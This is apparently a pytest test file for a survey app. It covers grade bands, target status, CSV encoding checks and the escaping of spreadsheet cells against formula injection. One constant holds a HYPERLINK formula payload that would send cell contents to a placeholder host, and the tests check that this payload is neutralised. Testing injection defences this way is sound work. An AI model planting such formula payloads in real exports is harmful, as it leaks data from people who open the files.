"""The one grade rule (bands with their inequalities, target status, ranking key) and the one rule for
spreadsheet cells (OWASP CSV injection), plus the CSV decoding of organisation files."""

import datetime as dt
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from surveyapp.definitions.csvtext import CsvEncodingError, decode_csv
from surveyapp.definitions.loader import load_file
from surveyapp.definitions.spreadsheet import (
    FORMULA_TRIGGERS,
    cell_text,
    csv_text,
    write_xlsx,
)
from surveyapp.domain.scoring import (
    BELOW_TARGET,
    MET,
    RED_LINE,
    grade_bands,
    grade_bands_text,
    grade_for,
    grade_rank,
    target_status,
)

BUNDLED = Path(__file__).resolve().parents[2] / "surveyapp" / "questionnaires" / "transparency-v1.yaml"


@pytest.fixture(scope="module")
def bundled():
    return load_file(BUNDLED)


def test_bands_print_the_lowest_band_as_below_the_pass_mark(bundled):
    assert grade_bands(bundled) == [("excellent", "≥", 85), ("good", "≥", 75), ("pass", "≥", 60), ("fail", "<", 60)]
    assert grade_bands_text(bundled, "zh_Hans") == "优秀 ≥ 85 / 良好 ≥ 75 / 合格 ≥ 60 / 不合格 < 60"
    assert "≥ 0" not in grade_bands_text(bundled, "en")


def test_a_red_line_never_meets_the_target_and_ranks_below_a_pass(bundled):
    assert target_status(81.3, 1, 75).status == RED_LINE and not target_status(81.3, 1, 75).met
    assert target_status(81.3, 0, 75).status == MET and target_status(81.3, 0, 75).gap == 0.0
    assert target_status(70.0, 0, 75).status == BELOW_TARGET and target_status(70.0, 0, 75).gap == pytest.approx(5)
    red = grade_for(bundled, 81.3, True)
    passing = grade_for(bundled, 61.0, False)
    assert red == "fail" and passing == "pass"
    assert grade_rank(bundled, passing) < grade_rank(bundled, red) < grade_rank(bundled, None)


HOSTILE = '=HYPERLINK("http://example.invalid/?d="&A2,"示范部门")'


@given(st.text(min_size=1))
def test_no_text_cell_starts_with_a_formula_trigger(text):
    written = cell_text(text)
    assert not written.startswith(FORMULA_TRIGGERS)
    assert written == text or written == "'" + text


def test_numbers_and_dates_stay_typed_and_text_is_inert(tmp_path):
    rows = [["name", "score", "when"], [HOSTILE, 81.25, dt.date(2026, 1, 15)], ["-3", -3, None], ["@SUM(A1)", 0, None]]
    assert csv_text(rows).startswith("\ufeff")
    assert "'=HYPERLINK" in csv_text(rows) and ",-3," in csv_text(rows) and "'-3" in csv_text(rows)
    path = tmp_path / "t.xlsx"
    write_xlsx(rows, "t", str(path))
    sheet = openpyxl.load_workbook(path).active
    assert sheet["A2"].value == "'" + HOSTILE and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == 81.25 and sheet["B3"].value == -3 and sheet["A3"].value == "'-3"
    assert isinstance(sheet["C2"].value, dt.datetime)
    assert sheet.freeze_panes == "A2" and sheet.column_dimensions["A"].width > 8


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk", "gb18030"])
def test_csv_in_utf8_or_gbk_is_read(encoding):
    text = "code,kind,name_zh_hans\nD1,department,县财政局\n"
    assert decode_csv(text.encode(encoding)) == text


@pytest.mark.parametrize(
    ("encoding", "name"), [("big5", "財政局"), ("shift_jis", "財務局です"), ("utf-16", "财政局"), ("cp1252", "Café")]
)
def test_other_encodings_are_refused_with_how_to_save(encoding, name):
    with pytest.raises(CsvEncodingError, match="UTF-8"):
        decode_csv(f"code,kind,name_zh_hans\nD1,department,{name}\n".encode(encoding))


@pytest.mark.parametrize(
    "data",
    [
        b"email,role\nx@agency.example,staff\x00\n",  # a NUL character: a binary file
        b'email,role\n"' + b"a" * 200_000 + b'",staff\n',  # a field over the csv module's limit
    ],
)
def test_a_file_the_csv_reader_cannot_read_is_refused_with_how_to_save_it(data):
    """The fuzz test found a 500 (``_csv.Error``) on the account import: every CSV upload is read here."""
    with pytest.raises(CsvEncodingError, match="not a text CSV file"):
        decode_csv(data)
